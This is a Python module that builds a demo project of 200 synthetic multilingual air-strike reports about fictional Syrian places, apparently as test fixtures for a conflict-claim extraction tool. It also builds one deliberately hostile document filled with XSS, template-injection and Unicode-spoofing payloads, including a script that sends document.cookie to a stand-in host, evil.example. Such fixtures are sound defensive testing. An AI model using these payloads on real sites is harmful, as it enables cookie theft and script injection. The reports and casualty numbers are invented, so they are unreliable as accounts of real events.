"""A project of two hundred reports in six languages, made by hand; hostile ones among them."""

from __future__ import annotations

import random
from datetime import date, timedelta
from pathlib import Path

from thucydides.model.anchor import Anchor
from thucydides.model.claim import Actor, Claim, DocumentRef, Place, Reading, Source, Time, Toll, Weapon
from thucydides.model.document import Document, Published, Segment, Stamp, content_id
from thucydides.model.event import Event, Relation
from thucydides.store.project import Project

# Language -> title, sentence (place, number, source as {}), word of the event, source, denial or none, outlet.
TOLD = {
    "en": ("Strike on the market of {place}", "Two jets bombed the market of {place} on Friday, killing {n} civilians, {source} said.", "bombed", "the hospital", "Example Daily"),
    "fr": ("Frappe sur le marché de {place}", "Deux avions ont bombardé le marché de {place} vendredi, tuant {n} civils, selon {source}.", "bombardé", "l'hôpital", "Le Quotidien d'Exemple"),
    "ar": ("قصف سوق {place}", "قال {source} إن طائرتين قصفتا سوق {place} يوم الجمعة ما أدى إلى مقتل {n} مدنيا.", "قصفتا", "المستشفى", "صحيفة المثال"),
    "fa": ("بمباران بازار {place}", "{source} گفت دو جنگنده روز جمعه بازار {place} را بمباران کردند و {n} غیرنظامی کشته شدند.", "بمباران", "بیمارستان", "روزنامه نمونه"),
    "ru": ("Удар по рынку {place}", "Два самолёта бомбили рынок {place} в пятницу, погибли {n} мирных жителей, сообщила {source}.", "бомбили", "больница", "Пример дня"),
    "es": ("Bombardeo del mercado de {place}", "Dos aviones bombardearon el mercado de {place} el viernes y mataron a {n} civiles, dijo {source}.", "bombardearon", "el hospital", "El Ejemplo"),
}  # fmt: skip
FRIDAY = {"en": "Friday", "fr": "vendredi", "ar": "يوم الجمعة", "fa": "روز جمعه", "ru": "в пятницу", "es": "el viernes"}
PLACES = (
    ("Kafr Noor", "كفر نور", "settlement", 35.9, 36.6, 4.0),
    ("Tell Amal", "تل أمل", "neighbourhood", 36.2, 37.1, 1.0),
    ("Wadi Zahr", "وادي زهر", "admin1", 35.2, 38.4, 80.0),
    ("Bir Sabil", "بئر سبيل", "vicinity", 34.7, 36.9, 12.0),
    ("Deir Hadi", "دير هادي", "settlement", 35.3, 40.1, 5.0),
)
FIRST = date(2021, 3, 5)
PAYLOADS = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
    "</textarea></title></style><iframe srcdoc='<script>alert(1)</script>'>",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200bzero\ufeff",
    "&lt;b&gt; &#x3c;script&#x3e;",
    "' onmouseover='alert(1)",
)


def report(language: str, place: tuple, number: int, day: date, serial: int) -> tuple[Document, Reading]:
    """A document of one sentence and some more, with its one claim."""
    title, sentence, event, source, outlet = TOLD[language]
    name = place[1] if language in ("ar", "fa") else place[0]
    head = title.format(place=name)
    said = sentence.format(place=name, n=number, source=source)
    text = f"{head}\n\n{said}\n\n({outlet}, {serial})"
    begins = text.index(said)

    def at(words: str) -> Anchor:
        start = text.index(words, begins)
        return Anchor.of(text, start, start + len(words))

    document = Document(
        content_id(text, str(day)), text, language, head, outlet, f"https://example.org/{language}/{serial}",
        (Stamp("metadata", day, day, "told by the page"),
         Stamp("fetched", day + timedelta(2), day + timedelta(2), "a machine took it")),
        (Segment("title", 0, len(head)), Segment("body", begins, begins + len(said)),
         Segment("credit", begins + len(said) + 2, len(text))),
        content_id(text) * 4,
    )  # fmt: skip
    published = Published(day, day, "confirmed", ("the page and the text agree",), ((day, 1.0),))
    ref = DocumentRef(document.doc_id, document.uri, head, language, outlet, published)
    placed = Place(
        place[0], at(name), place[2], "named", f"demo:{place[0]}", "SY", "Idlib", place[3], place[4], place[5],
        ({"gazetteer_id": "demo:other", "name": f"{place[0]} (east)", "country": "SY", "lat": 35.0, "lon": 39.0},),
    )  # fmt: skip
    root = (f"hospital of {place[0]}", "Example Monitor", "residents")[serial // 5 % 3]
    kind = ("medical_rescue", "monitor", "witness")[serial // 5 % 3]
    polarity = "denied" if serial % 17 == 3 else "asserted"
    claim = Claim(
        content_id("demo", document.doc_id), ref, Anchor.of(text, begins, begins + len(said)), at(event), "air_strike", polarity,
        "stated", (Source(outlet, "outlet", None), Source(root, kind, at(source), None, "neutral")),
        (Actor("target", "market", at(name), "infrastructure"),), placed, Time(day, day, "day", at(FRIDAY[language])),
        (Weapon("aircraft", "aircraft", at(event), 2),), (Toll("killed", "civilians", number, number, "exact", at(str(number))),),
        "demo/1", ("demo:1",), 0.8,
    )  # fmt: skip
    return document, Reading(ref, (claim,))


def hostile() -> tuple[Document, Reading]:
    """A document whose every field tries to break out of the page."""
    text = "\n\n".join(PAYLOADS) + "\n\nShelling killed 3 people in <b>Nowhere</b>, javascript:alert(2) said."
    evil = PAYLOADS[0]

    def at(words: str) -> Anchor:
        return Anchor.of(text, text.index(words), text.index(words) + len(words))

    document = Document("hostile0", text, "en", evil, PAYLOADS[1], "javascript:alert(3)", notes=(PAYLOADS[2],))
    published = Published(None, None, "unknown", (PAYLOADS[4],))
    ref = DocumentRef("hostile0", document.uri, evil, "en", PAYLOADS[1], published)
    claim = Claim(
        "hostileclaim", ref, at("Shelling killed 3 people"), at("Shelling"), "shelling", "asserted", "alleged",
        (Source(PAYLOADS[5], "person", at("javascript:alert(2)")),), (Actor("initiator", evil, at("<b>Nowhere</b>"), "other", None, PAYLOADS[1]),),
        Place(PAYLOADS[0], at("<b>Nowhere</b>"), "site", PAYLOADS[8], None, "SY", PAYLOADS[2], 35.0, 37.0, 1.0), None, (),
        (Toll("killed", "unknown", 3, 3, "exact", at("3 people"), PAYLOADS[1], None, (at("<b>Nowhere</b>"),)),), "demo/1", (evil,), None,
    )  # fmt: skip
    return document, Reading(ref, (claim,))


def fill(project: Project, reports: int = 200) -> None:
    """Adds the reports and their events: reports of one place and week are one event, with a conflict in each."""
    chance = random.Random(7)
    languages = list(TOLD)
    groups: dict[tuple[str, date], list[Claim]] = {}
    for serial in range(reports):
        place = PLACES[serial % len(PLACES)]
        week = (serial // 20) % 10
        day = FIRST + timedelta(7 * week)
        document, reading = report(languages[serial % 6], place, 5 + chance.randrange(12), day, serial)
        project.add(document, document.text.encode())
        project.save(reading, "demo/1")
        groups.setdefault((place[0], day), []).append(reading.claims[0])
    document, reading = hostile()
    project.add(document)
    project.save(reading, "demo/1")
    events = []
    for claims in groups.values():
        ids = tuple(sorted(c.claim_id for c in claims))
        told = tuple(
            Relation(claims[n].claim_id, claims[0].claim_id, "conflicts_number", f"{claims[n].casualties[0].low} and {claims[0].casualties[0].low} killed")
            for n in range(1, min(3, len(claims)))
        )  # fmt: skip
        events.append(
            Event(content_id("event", ids[0]), ids, tuple(sorted({c.attribution[-1].source for c in claims})), told)
        )
    events.append(Event("hostileevent", ("hostileclaim",), (PAYLOADS[5],)))
    project.save_events(tuple(events), "demo/1")


def make(root: Path, reports: int = 200) -> Path:
    """The project's folder."""
    with Project.init(root) as project:
        fill(project, reports)
    return root
